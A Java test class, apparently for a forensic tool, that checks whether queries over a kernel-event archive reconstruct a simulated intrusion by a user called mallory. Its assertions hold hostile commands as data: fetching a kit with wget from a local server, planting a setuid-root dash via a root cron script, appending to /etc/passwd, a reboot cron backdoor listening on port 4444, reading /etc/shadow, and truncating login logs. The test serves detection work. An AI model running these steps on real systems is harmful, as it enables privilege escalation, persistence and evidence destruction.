// SPDX-License-Identifier: Apache-2.0
package io.forensix.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertAll;

import io.forensix.query.Database;
import io.forensix.query.Tables;
import io.forensix.query.TerminalRecording;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/**
 * What scripts/lib/intrusion-scenario leaves: an archive, and the truth as those told it who did
 * it. Each step is looked for by the questions that an investigator has.
 */
public final class Intrusion {
  private static final String HOME_KIT = "/home/mallory/kit";
  private static final String SHELL = "/var/tmp/.font";
  private static final String BACKDOOR = "/usr/lib/fontd";
  private static final String MALLORY = "1001";
  private static final String KEEPER = "1002";

  private final Path folder;
  private final Path archive;
  private final List<List<String>> truth = new ArrayList<>();

  /**
   * Makes the tables of the archive.
   *
   * @param folder what the scenario left
   */
  public Intrusion(Path folder) throws IOException {
    this.folder = folder;
    archive = folder.resolve("archive");
    for (String line : Files.readAllLines(folder.resolve("truth"))) {
      truth.add(List.of(line.split(" ")));
    }
    Cli.Result index = Cli.run("index", archive);
    assertThat(index.code()).as(index.err()).isZero();
  }

  /** Unpacks the sample of docs/ to a folder. */
  public static void unpack(Path folder) throws IOException, InterruptedException {
    Path sample = Path.of(System.getProperty("forensix.root"), "docs", "intrusion.tar.xz");
    Process tar =
        new ProcessBuilder("tar", "-xJf", sample.toString(), "-C", folder.toString())
            .inheritIO()
            .start();
    assertThat(tar.waitFor()).isZero();
  }

  /** A shell that told who it is: {@code me PID UID EUID LOGIN_UID SESSION}. */
  private record Shell(String pid, String uid, String euid, String login, String session) {}

  private Shell shell(int which) {
    List<String> me = truth.stream().filter(line -> line.get(0).equals("me")).toList().get(which);
    return new Shell(me.get(1), me.get(2), me.get(3), me.get(4), me.get(5));
  }

  private Shell mallory() {
    return shell(0);
  }

  private Shell keeper() {
    return shell(1);
  }

  private Shell root() {
    return shell(2);
  }

  /** What was told by a name. */
  private String told(String name) {
    return truth.stream().filter(line -> line.get(0).equals(name)).findFirst().orElseThrow().get(1);
  }

  /** When the last key of a line of the keys was pressed. */
  private Instant typed(int line) {
    String number = Integer.toString(line);
    List<String> words =
        truth.stream()
            .filter(one -> one.get(0).equals("typed") && one.get(1).equals(number))
            .findFirst()
            .orElseThrow();
    return Instant.EPOCH.plusNanos(Long.parseLong(words.get(2)));
  }

  /** The line of the keys that contains a text; numbers begin with 1. */
  private int line(String text) throws IOException {
    List<String> keys = Files.readAllLines(folder.resolve("keys"));
    for (int i = 0; i < keys.size(); i++) {
      if (keys.get(i).contains(text)) {
        return i + 1;
      }
    }
    throw new AssertionError(text);
  }

  /** All happened after a line was typed, and before the next one was. */
  private void assertWhen(Rows rows, String text) throws IOException {
    int line = line(text);
    assertThat(rows.all("time")).isNotEmpty();
    for (String time : rows.all("time")) {
      assertThat(Instant.parse(time)).isBetween(typed(line), typed(line + 1));
    }
  }

  private Rows ask(String question, Object... args) {
    return Rows.of(archive, question, args);
  }

  private List<String> line(String question, String pid) {
    return ask(question, pid).all("pid");
  }

  private String text(String name) throws IOException {
    return Files.readString(folder.resolve(name), StandardCharsets.ISO_8859_1);
  }

  /** The number of the session that was logged in to. */
  private String id() {
    return ask("sessions").where("login_uid", MALLORY).one("id");
  }

  /** Someone logs in as mallory, by name and password, on a terminal. */
  public void login() {
    Rows session = ask("sessions").where("login_uid", MALLORY);
    assertThat(session.one("session")).isEqualTo(told("began")).isEqualTo(mallory().session);
    assertThat(session.one("tty")).startsWith("pts/");
    assertThat(session.one("leader")).isEqualTo("login");
    assertThat(line("ancestors", mallory().pid)).startsWith(mallory().pid, told("began"));
    assertThat(ask("io", told("began"), "--fd", 0).where("kind", "read").data())
        .startsWith("mallory\nharbor\n");
    assertThat(mallory().uid + mallory().login).isEqualTo(MALLORY + MALLORY);
  }

  /** wget fetches the kit, from a server on port 8080. */
  public void download() throws IOException {
    String pid = told("fetcher");
    Rows writers = ask("writers", HOME_KIT);
    assertThat(writers.all("pid")).containsOnly(pid);
    assertThat(writers.all("uid")).containsOnly(MALLORY);
    assertThat(writers.sum("bytes")).isEqualTo(Files.size(folder.resolve("kit")));
    assertWhen(writers, "wget");
    assertThat(ask("io", pid).where("kind", "write").where("path", HOME_KIT).data())
        .isEqualTo(text("kit"));
    assertThat(
            Rows.sql(archive, "FROM socket WHERE cause = 'connect' AND pid = " + pid).all("peer"))
        .contains("127.0.0.1:8080");
    String served = ask("readers", "/srv/elsewhere/kit").where("comm", "busybox").all("pid").get(0);
    assertThat(line("ancestors", served)).contains(told("server"));
    assertThat(line("ancestors", pid)).startsWith(pid, mallory().pid, told("began"));
  }

  /** su: another user; neither another session nor another login. */
  public void su() {
    assertThat(List.of(keeper().uid, keeper().euid)).containsOnly(KEEPER);
    for (Shell shell : List.of(mallory(), keeper(), root())) {
      Rows me = ask("ancestors", shell.pid).where("depth", 0);
      assertThat(me.one("uid")).isEqualTo(shell.uid);
      assertThat(me.one("session")).isEqualTo(shell.session).isEqualTo(mallory().session);
      Rows programs =
          Rows.sql(archive, "FROM exec WHERE pid = %s ORDER BY time".formatted(shell.pid));
      assertThat(programs.all("euid").getLast()).isEqualTo(shell.euid);
      assertThat(programs.all("login_uid")).containsOnly(MALLORY).contains(shell.login);
      assertThat(programs.all("session")).containsOnly(shell.session);
    }
    // The shell's parent is su: root by its setuid bit, mallory by who started it.
    Rows line = ask("ancestors", keeper().pid);
    assertThat(line.all("command").get(1)).isEqualTo("su keeper");
    String su = line.all("pid").get(1);
    Rows exec = Rows.sql(archive, "FROM exec WHERE pid = " + su);
    assertThat(exec.all("uid")).containsOnly(MALLORY);
    assertThat(exec.all("euid")).containsOnly("0");
    assertThat(line.all("pid").get(2)).isEqualTo(mallory().pid);
    assertThat(ask("io", su, "--fd", 0).where("kind", "read").data()).isEqualTo("harbor\n");
    assertThat(ask("shell", keeper().pid).one("login_uid")).isEqualTo(MALLORY);
  }

  /** keeper's shell adds to a job of root's, which leaves a shell that is setuid root. */
  public void plant() throws IOException {
    Rows writers = ask("writers", "/usr/local/sbin/tidy").where("pid", keeper().pid);
    String added = "cp /bin/dash /var/tmp/.font; chmod 4755 /var/tmp/.font\n";
    assertThat(writers.one("uid")).isEqualTo(KEEPER);
    assertThat(writers.number("bytes")).isEqualTo(added.length());
    assertWhen(writers, "cp /bin/dash");
    assertThat(ask("io", keeper().pid, "--fd", 1).where("path", "/usr/local/sbin/tidy").data())
        .isEqualTo(added);
    String mode =
        "SELECT pid, a2 FROM event WHERE call = 'fchmodat' AND path = '%s' AND result = 0 ORDER BY time LIMIT 1"
            .formatted(SHELL);
    Rows chmod = Rows.sql(archive, mode);
    assertThat(chmod.number("a2")).isEqualTo(04755);
    Rows line = ask("ancestors", chmod.one("pid"));
    assertThat(line.all("uid")).containsOnly("0");
    assertThat(line.all("pid")).contains(told("jobs")).doesNotContain(told("began"));
  }

  /** mallory runs it. */
  public void become() throws IOException {
    Rows exec = Rows.sql(archive, "FROM exec WHERE path = '%s'".formatted(SHELL));
    assertThat(exec.one("pid")).isEqualTo(root().pid);
    assertThat(exec.one("uid") + " " + exec.one("euid")).isEqualTo(MALLORY + " 0");
    assertThat(root().uid + " " + root().euid).isEqualTo(MALLORY + " 0");
    assertWhen(exec, ".font -p");
    assertThat(line("ancestors", root().pid)).startsWith(root().pid, mallory().pid);
  }

  /** The kit writes to /etc/passwd through what that shell had opened, four processes up. */
  public void user() throws IOException {
    Rows writers = ask("writers", "/etc/passwd");
    String pid = told("writer");
    String before = text("passwd.before");
    assertThat(text("passwd.after")).startsWith(before);
    String added = text("passwd.after").substring(before.length());
    assertThat(writers.one("pid")).isEqualTo(pid);
    assertThat(writers.one("uid")).isEqualTo(MALLORY);
    assertThat(writers.number("fd")).isEqualTo(1);
    assertThat(writers.number("bytes")).isEqualTo(added.length());
    assertWhen(writers, "kit user");
    assertThat(ask("io", pid, "--fd", 1).where("path", "/etc/passwd").data()).isEqualTo(added);
    Rows written = descriptor(pid, 1);
    assertThat(written.one("cause") + " " + written.one("from_fd")).isEqualTo("dup 7");
    List<String> origins = new ArrayList<>();
    Rows fd = descriptor(pid, 7);
    while (fd.one("cause").equals("fork")) {
      origins.add(fd.one("from_pid"));
      fd = descriptor(fd.one("from_pid"), 7);
    }
    // The shell opened it, and then gave it the number that was wanted.
    assertThat(fd.one("cause") + " " + fd.one("from_pid")).isEqualTo("dup " + root().pid);
    int opened = fd.number("from_fd");
    assertThat(descriptor(root().pid, opened).one("cause")).isEqualTo("open");
    assertThat(origins).hasSize(4).endsWith(root().pid);
    assertThat(line("ancestors", pid).subList(1, 5)).isEqualTo(origins);
  }

  private Rows descriptor(String pid, int fd) {
    return ask("fds", pid).where("fd", fd).where("path", "/etc/passwd");
  }

  /** A program, a line for cron, and a process that listens; then somebody calls. */
  public void backdoor() throws IOException {
    Rows writers = ask("writers", BACKDOOR);
    assertThat(writers.sum("bytes")).isEqualTo(Files.size(folder.resolve("kit")));
    assertWhen(writers, "cp kit");
    assertThat(line("ancestors", writers.all("pid").get(0))).contains(root().pid);
    // The kernel moved the bytes; whence is on record.
    assertThat(writers.all("call")).containsOnly("copy_file_range");
    assertThat(ask("readers", HOME_KIT).where("call", "copy_file_range").all("pid"))
        .containsOnly(writers.all("pid").get(0));
    Rows cron = ask("writers", "/etc/cron.d/fonts").where("kind", "write");
    assertThat(cron.one("pid")).isEqualTo(root().pid);
    assertThat(ask("io", root().pid, "--fd", 1).where("path", "/etc/cron.d/fonts").data())
        .isEqualTo("@reboot root /usr/lib/fontd listen\n");
    assertWhen(cron, "cron.d");
    List<String> below = line("descendants", told("backdoor"));
    String listens = "FROM socket WHERE cause IN ('bind', 'listen') AND local LIKE '%:4444'";
    assertThat(Rows.sql(archive, listens).all("pid")).isNotEmpty().isSubsetOf(below);
    Rows read = ask("readers", "/etc/shadow").where("comm", "grep");
    assertThat(read.all("pid")).isNotEmpty().isSubsetOf(below);
    assertThat(ask("ancestors", read.all("pid").get(0)).all("pid")).contains(root().pid);
    assertThat(text("called")).startsWith("root:");
  }

  /** The logs are emptied; what login wrote to one of them is on record. */
  public void wipe() throws IOException {
    Rows auth = ask("writers", "/var/log/auth.log");
    assertThat(auth.one("kind") + " " + auth.one("pid")).isEqualTo("truncate " + root().pid);
    assertWhen(auth, "auth.log");
    Rows wtmp = ask("writers", "/var/log/wtmp");
    assertThat(wtmp.where("kind", "truncate").one("pid")).isEqualTo(root().pid);
    assertThat(wtmp.where("kind", "write").all("pid")).contains(told("began"));
    assertThat(ask("io", "/var/log/wtmp").where("kind", "write").data()).contains("mallory");
  }

  /** The session, command by command and byte by byte. */
  public void session() throws IOException {
    List<String> commands = ask("session", id()).all("command");
    assertThat(commands)
        .contains(
            "login",
            "-bash",
            "wget -q http://127.0.0.1:8080/kit",
            "su keeper",
            "/var/tmp/.font -p",
            "sh kit user 3",
            "sh kit user 0",
            "cp kit /usr/lib/fontd",
            "rm kit");
    try (Tables tables = Tables.open(Database.of(archive))) {
      TerminalRecording recording = TerminalRecording.of(tables, Long.parseLong(id()));
      assertThat(recording.exact()).isTrue();
      assertThat(new String(recording.output(), StandardCharsets.ISO_8859_1))
          .isEqualTo(text("shown"));
    }
  }

  /** What was in /etc/passwd before and after is known, all of it. */
  public void content() throws IOException {
    int line = line("kit user");
    assertThat(content("/etc/passwd", typed(line))).isEqualTo(text("passwd.before"));
    assertThat(content("/etc/passwd", typed(line + 1))).isEqualTo(text("passwd.after"));
    assertThat(content(HOME_KIT, typed(line))).isEqualTo(text("kit"));
  }

  private String content(String file, Instant at) throws IOException {
    Path out = archive.resolveSibling("content");
    Cli.Result result = Cli.run("content", archive, file, "--at", at, "--out", out);
    assertThat(result.code()).as(result.err()).isZero();
    return text("content");
  }

  /** The backdoor leads to the download, to the login and to keeper; the kit to all it did. */
  public void trace() throws IOException {
    Cli.Result back = Cli.run("trace-back", archive, BACKDOOR);
    assertThat(back.code()).as(back.err()).isZero();
    assertThat(back.out())
        .containsPattern("fork +" + told("began") + " login ")
        .containsPattern("write [^ ]+ bytes +" + told("fetcher") + " wget ")
        .containsPattern("write 55 bytes +" + keeper().pid + " bash ")
        .contains("127.0.0.1:8080");
    Cli.Result forward =
        Cli.run("trace-forward", archive, HOME_KIT, "--at", typed(line("wget") + 1));
    assertThat(forward.code()).as(forward.err()).isZero();
    assertThat(forward.out())
        .containsPattern("fork +" + told("writer") + " sh ")
        .containsPattern("write [^ ]+ bytes +/etc/passwd")
        .containsPattern("write [^>]+ calls +" + BACKDOOR);
  }

  /** What lineage says is what the kernel said, of each record. */
  private void lineage() throws IOException {
    Cli.Result timeline = Cli.run("timeline", archive);
    assertThat(timeline.out()).containsPattern("(?m)^disagreements +0$");
  }

  /** All of it. */
  public void check() {
    assertAll(
        this::login,
        this::download,
        this::su,
        this::plant,
        this::become,
        this::user,
        this::backdoor,
        this::wipe,
        this::session,
        this::content,
        this::trace,
        this::lineage);
  }
}
